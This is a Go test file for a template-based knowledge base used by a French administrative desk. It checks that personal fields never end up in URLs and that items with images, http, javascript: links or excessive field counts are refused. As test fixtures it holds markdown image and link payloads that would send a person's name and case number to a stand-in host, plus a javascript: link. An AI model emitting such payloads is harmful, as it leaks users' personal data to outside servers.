package kb

import (
	"fmt"
	"strings"
	"testing"
)

// Items come from a folder a whole desk can write: nothing in them may make
// a reply reach the network or carry the person's data to a server.

func TestAnAddressNeverReceivesThePersonsData(t *testing.T) {
	body := "Voir ![](http://x.test/p.png?nom={{usager.nom}}&d={{dossier.numero}}) et [le site](https://x.test/?n={{usager.nom}}),\n" +
		"<https://x.test/{{usager.courriel}}>, https://x.test/a?b={{dossier.numero}} ou [rendez-vous]({{site.rdv}}).\n" +
		"[ref]: https://x.test/{{usager.nom}}\nBonjour {{usager.nom}}."
	got := Fill(body, map[string]string{"usager.nom": "DURAND", "dossier.numero": "7501234567",
		"usager.courriel": "d@x.test", "site.rdv": "https://rdv.test/"}, nil)
	for _, leak := range []string{"=DURAND", "/DURAND", "7501234567", "d@x.test"} {
		if strings.Contains(got, leak) {
			t.Errorf("%q went into an address: %s", leak, got)
		}
	}
	if !strings.Contains(got, "](https://rdv.test/)") || !strings.HasSuffix(got, "Bonjour DURAND.") {
		t.Errorf("the desk's own address or the text outside addresses was not filled: %s", got)
	}
}

func TestCheckRefusesWhatWouldReachTheNetwork(t *testing.T) {
	item := func(id, body string) string {
		return strings.Replace(goodItem, "id: bon", "id: "+id, 1) + body + "\n"
	}
	bad := map[string]string{
		"image.md":   item("image", "![logo](https://x.test/logo.png)"),
		"refimg.md":  item("refimg", "![logo][l]\n\n[l]: https://x.test/l.png"),
		"http.md":    item("http", "[le site](http://x.test/)"),
		"script.md":  item("script", "[cliquer](javascript:alert(1))"),
		"donnees.md": item("donnees", "[suivi](https://x.test/?n={{usager.nom}})"),
		"nu.md":      item("nu", "https://x.test/?d={{dossier.numero}}"),
	}
	good := map[string]string{
		"https.md":  item("https", "[le site](https://www.service-public.fr/) ou <https://x.test/>"),
		"mail.md":   item("mail", "[écrire](mailto:pref@x.test)"),
		"lien.md":   item("lien", "[voir](https)"),
		"site.md":   item("site", "[rendez-vous]({{site.prefecture}})"),
		"ancre.md":  item("ancre", "[plus bas](#suite)"),
		"parens.md": item("parens", "l'accueil ({{site.prefecture}}), du lundi au vendredi"),
	}
	files := map[string]string{}
	for k, v := range bad {
		files[k] = v
	}
	for k, v := range good {
		files[k] = v
	}
	_, probs := loadMap(t, files)
	for name := range bad {
		if n := len(find(probs, name, "")); n == 0 {
			t.Errorf("%s: nothing reported", name)
		}
	}
	for name := range good {
		for _, p := range find(probs, name, "") {
			if strings.Contains(p, "error") || strings.Contains(p, "erreur") {
				t.Errorf("%s: %s", name, p)
			}
		}
	}
	if got := find(probs, "image.md", "image"); len(got) != 1 || !strings.Contains(got[0], "image.md:16") {
		t.Errorf("the image is not reported at its line: %v", got)
	}
}

func TestAnItemWithThousandsOfFieldsIsRefused(t *testing.T) {
	var b strings.Builder
	b.WriteString(strings.Replace(goodItem, "id: bon", "id: champs", 1))
	for i := range 25000 {
		fmt.Fprintf(&b, "{{champ.n%d}} ", i)
	}
	k, probs := loadMap(t, map[string]string{"bon.md": goodItem, "champs.md": b.String()})
	if got := find(probs, "champs.md", "au-delà de"); len(got) != 1 || len(find(probs, "champs.md", "")) != 1 {
		t.Errorf("one clear error expected, got %d problems: %.300v", len(find(probs, "champs.md", "")), got)
	}
	if k.Item("champs") != nil || k.Item("bon") == nil {
		t.Error("the item with 25,000 fields is served, or the base with it is not")
	}
}
